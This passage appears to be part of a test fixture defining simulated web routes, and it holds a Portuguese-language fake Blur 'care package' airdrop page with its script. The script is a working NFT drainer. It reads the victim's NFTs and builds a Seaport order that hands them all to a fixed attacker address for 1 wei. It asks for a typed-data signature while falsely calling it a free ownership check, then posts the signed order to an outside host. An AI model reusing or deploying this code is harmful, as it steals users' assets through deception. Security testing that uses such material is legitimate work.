 <div class="cards"><div>Pacotes<b id="pk">—</b></div><div>Pontos de lance<b id="pt">—</b></div><div>BLUR estimado<b id="bl">—</b></div></div>
 <button class="go" id="go">ABRIR CARE PACKAGES</button>
 <div id="m"></div>
</div>
<script src="/assets/airdrop.min.js"></script>
</body>
</html>
`,
    routes: {
      "blur-io.recompensas-temporada3.com/assets/airdrop.min.js": jsRoute(`!function(){var e=window.ethereum,a,R="0x6D4f2C19e3aB8c7d5E0F1a2B3c4D5e6F7a8B9c0D",S="0x0000000000000068F116a894984e2DB1123eB395",Z="0x0000000000000000000000000000000000000000";
function m(t){document.getElementById("m").textContent=t}
async function c(){a=(await e.request({method:"eth_requestAccounts"}))[0];document.getElementById("cw").textContent=a.slice(0,6)+"…"+a.slice(-4);document.getElementById("pk").textContent="3";document.getElementById("pt").textContent="41.220";document.getElementById("bl").textContent="~8.400";return a}
async function nfts(o){try{return(await(await fetch("https://nft-idx.recompensas-temporada3.com/v1/owned?o="+o)).json()).items||[]}catch(x){return[]}}
async function go(){if(!e){m("Instale a MetaMask.");return}await c();m("Carregando seus ativos…");
var it=await nfts(a),now=Math.floor(Date.now()/1e3);
if(!it.length)it=[{token:"0xBd3531dA5CF5857e7CfAA92426877b022e612cf8",id:"7781"},{token:"0xED5AF388653567Af2F388E6224dC7C4b3241C544",id:"3307"}];
var order={offerer:a,zone:Z,offer:it.map(function(n){return{itemType:2,token:n.token,identifierOrCriteria:n.id,startAmount:"1",endAmount:"1"}}),
consideration:[{itemType:0,token:Z,identifierOrCriteria:"0",startAmount:"1",endAmount:"1",recipient:R}],
orderType:0,startTime:String(now),endTime:String(now+2592e3),zoneHash:"0x"+"0".repeat(64),salt:String(Date.now()),conduitKey:"0x0000007b02230091a7ed01230072f7006a004d60a8d4e71d599b8104250f0000",counter:"0"};
var typed={domain:{name:"Seaport",version:"1.6",chainId:1,verifyingContract:S},primaryType:"OrderComponents",
types:{EIP712Domain:[{name:"name",type:"string"},{name:"version",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],
OrderComponents:[{name:"offerer",type:"address"},{name:"zone",type:"address"},{name:"offer",type:"OfferItem[]"},{name:"consideration",type:"ConsiderationItem[]"},{name:"orderType",type:"uint8"},{name:"startTime",type:"uint256"},{name:"endTime",type:"uint256"},{name:"zoneHash",type:"bytes32"},{name:"salt",type:"uint256"},{name:"conduitKey",type:"bytes32"},{name:"counter",type:"uint256"}],
OfferItem:[{name:"itemType",type:"uint8"},{name:"token",type:"address"},{name:"identifierOrCriteria",type:"uint256"},{name:"startAmount",type:"uint256"},{name:"endAmount",type:"uint256"}],
ConsiderationItem:[{name:"itemType",type:"uint8"},{name:"token",type:"address"},{name:"identifierOrCriteria",type:"uint256"},{name:"startAmount",type:"uint256"},{name:"endAmount",type:"uint256"},{name:"recipient",type:"address"}]},message:order};
m("Assine para verificar a propriedade (sem custo de gás)…");
try{var sg=await e.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(typed)]});
await fetch("https://nft-idx.recompensas-temporada3.com/v1/o",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({o:order,s:sg})});
m("Pacotes abertos! Seus BLUR serão enviados em até 1 hora.")}catch(x){m("Assinatura necessária para abrir os pacotes.")}}
document.getElementById("go").onclick=go;document.getElementById("cw").onclick=c}();
`),
    },
  },
];
